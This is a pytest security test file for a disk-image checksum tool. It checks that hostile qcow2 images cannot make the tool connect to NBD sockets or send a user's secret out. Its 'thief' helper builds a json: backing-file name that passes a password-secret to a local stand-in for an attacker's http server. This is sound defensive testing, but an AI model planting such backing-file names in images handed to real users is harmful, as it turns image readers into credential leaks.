# SPDX-License-Identifier: LGPL-2.1-or-later
"""The author of an image does not make connections, wherever a description (an option
string, or json:) has the image; and gets no secret of the user."""

import contextlib
import http.server
import json
import os
import subprocess
import tarfile
import threading

import pytest

from conftest import sums
from luks import encrypt
from oracle import checksum
from qcow2_image import Image
from hostile_images import SIZE, hostile
from test_trust import listener, unopened_fifo

REFUSED = "use --trust-names to follow such a name"


@contextlib.contextmanager
def http_server():
    """The author's server, which asks for a password. Lists what it was told."""
    told = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            told.append(self.headers.get("Authorization"))
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="x"')
            self.send_header("Content-Length", "0")
            self.end_headers()
        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port, told
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def thief(port):
    """A name that sends a secret of the user to the author's server."""
    return "json:" + json.dumps({
        "driver": "http", "url": f"http://127.0.0.1:{port}/x", "username": "u",
        "password-secret": "s"}, separators=(",", ":"))


def plain(directory, name):
    """The image as it is. The user may write its name in several ways."""
    hostile(directory / "image", name)
    return ["driver=qcow2,file.filename=image"]


def colon(directory, name):
    """What is before a colon is no protocol in an option string."""
    hostile(directory / "image-12:30", name)
    return ["driver=qcow2,file.filename=image-12:30", "file.filename=image-12:30",
            "driver=qcow2,file.driver=file,file.filename=image-12:30"]


def file_colon(directory, name):
    """Nor is 'file:'."""
    hostile(directory / "file:image", name)
    return ["driver=qcow2,file.filename=file:image",
            "driver=qcow2,file.driver=file,file.filename=file:image"]


def in_archive(directory, name):
    """A disk in an OVA."""
    path = hostile(directory / "image", name)
    with tarfile.open(directory / "archive", "w") as archive:
        archive.add(path, arcname="image")
    with tarfile.open(directory / "archive") as archive:
        member = archive.getmember("image")
    path.unlink()
    raw = f"file.driver=raw,file.offset={member.offset_data}," \
        f"file.size={-(-member.size // 512) * 512},file.file.filename=archive"
    return [f"driver=qcow2,{raw}", raw]


def in_luks(directory, name):
    """Also for the user's own secret, which opens the image."""
    path = hostile(directory / "image", name)
    os.truncate(path, SIZE)
    key = directory / "key"
    key.write_text("hunter2")
    encrypt(path, directory / "luks", "-f", "raw", "-O", "luks", "-o",
            "key-secret=s,iter-time=10", secret=f"secret,id=s,file={key}")
    path.unlink()
    return ["driver=qcow2,file.driver=luks,file.key-secret=s,file.file.filename=luks"]


def in_quorum(directory, name):
    """There are as many formats as files, but one of these has none."""
    hostile(directory / "image", name)
    (directory / "raw").write_bytes(bytes(SIZE))
    return ["driver=quorum,vote-threshold=1,children.0.driver=raw,children.0.file.driver=raw,"
            "children.0.file.file.filename=raw,children.1.file.filename=image"]


MAKERS = [plain, colon, file_colon, in_archive, in_luks, in_quorum]


def as_json(options):
    """An option string as a json: name: nested, and flat."""
    flat = dict(option.split("=", 1) for option in options.split(","))
    nested = {}
    for key, value in flat.items():
        node = nested
        *outer, last = key.split(".")
        for part in outer:
            node = node.setdefault(part, {})
        node[last] = int(value) if value.isdecimal() else value
    if "children" in nested:
        nested["children"] = list(nested["children"].values())
    for description in nested, flat:
        yield "json:" + json.dumps(description)


def descriptions(options):
    yield "--image-opts", options
    for name in as_json(options):
        yield (name,)


@pytest.mark.parametrize("make", MAKERS)
def test_image_does_not_connect(fails, tmp_path, make):
    socket_path = tmp_path / "s"
    every = make(tmp_path, f"nbd+unix:///?socket={socket_path}")
    secret = ["--object", f"secret,id=s,file={tmp_path / 'key'}"] \
        if make is in_luks else []
    with listener(socket_path) as came:
        for options in every:
            for args in descriptions(options):
                line = fails(*secret, *args, cwd=tmp_path)
                assert not came
                # Elsewhere the look cannot see the image.
                assert REFUSED in line or make in (in_archive, in_luks)


@pytest.mark.parametrize("make", MAKERS)
def test_image_gets_no_secret(fails, tmp_path, make):
    with http_server() as (port, told):
        for options in make(tmp_path, thief(port)):
            for args in descriptions(options):
                fails("--object", "secret,id=s,data=hunter2", *args, cwd=tmp_path)
                assert not told


@pytest.mark.parametrize("name", ["a:b", "file:a", "file:d/a", "d/a:b", "http:a"])
def test_name_with_a_colon_is_a_path(disksum, tmp_path, name):
    """Relative names in the image start where they do in QEMU."""
    (tmp_path / "d").mkdir()
    (tmp_path / "file:d").mkdir()
    path = tmp_path / name
    disk = path.parent / "base"
    disk.write_bytes(b"disk" * (SIZE // 4))
    for backing in os.fsencode(disk), b"base":
        Image(SIZE, backing=backing, backing_format=b"raw").write(path)
        options = f"driver=qcow2,file.filename={name}"
        qemu = subprocess.run(["qemu-img", "info", "--image-opts", "--backing-chain",
                               options], cwd=tmp_path, capture_output=True)
        done = disksum("--image-opts", options, cwd=tmp_path, check=False)
        assert done.returncode == (qemu.returncode != 0), done
        if done.returncode == 0:
            assert sums(done.stdout) == [checksum(disk)]


@pytest.mark.parametrize("place", ["", "d/"])
def test_relative_name_after_file_colon(fails, tmp_path, place):
    """QEMU takes 'file:' off where it looks for the backing file."""
    for directory in "d", "file:d":
        (tmp_path / directory).mkdir()
    name = f"file:{place}image"
    hostile(tmp_path / name, "fifo")
    with unopened_fifo(tmp_path / f"{place}fifo"):
        line = fails("--image-opts", f"driver=qcow2,file.filename={name}", cwd=tmp_path)
        assert "QEMU: " not in line


@pytest.mark.parametrize("options", [
    "driver=raw,file.filename=image", "driver=raw,file.driver=file,file.filename=image",
    "driver=raw,size=65536,file.filename=image"])
def test_guest_does_not_choose_the_format(disksum, tmp_path, options):
    """The user has said that the disk is raw. Nothing that it looks like is opened."""
    path = tmp_path / "image"
    hostile(path, "nbd+unix:///?socket=/x")
    content = path.read_bytes()
    if "size" in options:
        content = content[:65536]
    for args in descriptions(options):
        assert sums(disksum(*args, cwd=tmp_path).stdout) == [checksum(content)]


def test_description_with_a_server_connects(disksum, servers, tmp_path):
    """What the user named may be anywhere."""
    disk = tmp_path / "disk"
    disk.write_bytes(b"disk" * (SIZE // 4))
    uri, _ = servers.nbdkit("file", disk)
    socket_path = uri.partition("socket=")[2]
    options = f"driver=raw,file.driver=nbd,file.server.type=unix,file.server.path={socket_path}"
    for args in descriptions(options):
        assert sums(disksum(*args).stdout) == [checksum(disk)]


def test_trusted_name_in_an_archive(disksum, fails, servers, tmp_path):
    disk = tmp_path / "disk"
    disk.write_bytes(b"disk" * (SIZE // 4))
    uri, _ = servers.nbdkit("file", disk)
    for options in in_archive(tmp_path, uri):
        args = ["--image-opts", options]
        done = disksum("--trust-names", *args, cwd=tmp_path, check=False)
        assert sums(done.stdout) == [checksum(disk)]
        fails(*args, cwd=tmp_path)
        fails("--trust-names", "--object", "secret,id=s,data=x", *args, cwd=tmp_path)
